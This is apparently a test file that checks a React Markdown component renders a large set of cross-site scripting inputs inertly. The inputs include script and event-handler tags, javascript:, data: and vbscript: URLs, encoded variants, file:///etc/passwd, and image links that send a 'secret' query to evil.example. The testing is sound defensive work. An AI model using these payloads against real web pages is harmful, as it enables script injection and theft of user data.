/** Texts that try to become markup, to run, or to carry something out. */
import { render } from "@testing-library/react";
import { expect, test } from "vitest";
import Markdown from "./Markdown";

const TAGS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=//evil.example>",
  "<link rel=stylesheet href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example>",
  "<form action=//evil.example><button>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video src=//evil.example onerror=alert(1)>",
  "<audio src=//evil.example>",
  "<body onload=alert(1)>",
  "<style>@import '//evil.example'</style>",
  "<math><mi xlink:href=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<template><script>alert(1)</script></template>",
  "<noscript><img src=x onerror=alert(1)></noscript>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href=javascript:alert(1)?>",
  "<x onclick=alert(1) style=position:fixed>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<img src=//evil.example/?q=secret>",
  "<b style=background:url(//evil.example)>",
];

const ADDRESSES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript:alert(1)",
  "java%0ascript:alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "\\javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://evil.example/1",
  "view-source:javascript:alert(1)",
  "//evil.example",
  "/admin/",
  "../api/me",
  "#//evil.example",
  "intent://evil.example#Intent;end",
];

const WRAPPED = ADDRESSES.flatMap((address) => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `![x](${address})`,
  `<${address}>`,
  `[x][y]\n\n[y]: ${address}`,
]);

const PICTURES = [
  "![x](https://evil.example/?q=secret)",
  "[![x](https://evil.example/a.png)](https://evil.example/)",
  "![x][y]\n\n[y]: https://evil.example/a.png",
  "![](https://evil.example/a.png 'onerror=alert(1)')",
];

const DANGEROUS =
  "script, img, svg, iframe, object, embed, link, meta, base, form, video, audio, style, template, [style]";

test.each([...TAGS, ...TAGS.map((tag) => `- **${tag}**\n`), ...WRAPPED, ...PICTURES])(
  "%j does nothing",
  (text) => {
    const { container } = render(<Markdown text={text} />);
    const made = [...container.querySelectorAll("*")];
    const pageOwn = new Set(container.querySelectorAll("figcaption *"));
    expect(made.filter((element) => element.matches(DANGEROUS) && !pageOwn.has(element))).toEqual([]);
    for (const element of made) {
      expect(
        element.getAttributeNames().filter((name) => /^on|^src|^srcdoc|^action|^xlink/.test(name)),
      ).toEqual([]);
    }
    for (const link of container.querySelectorAll("a")) {
      expect(link.href).toMatch(/^(https?:|mailto:)/);
      expect(link.rel).toContain("noopener");
    }
  },
);
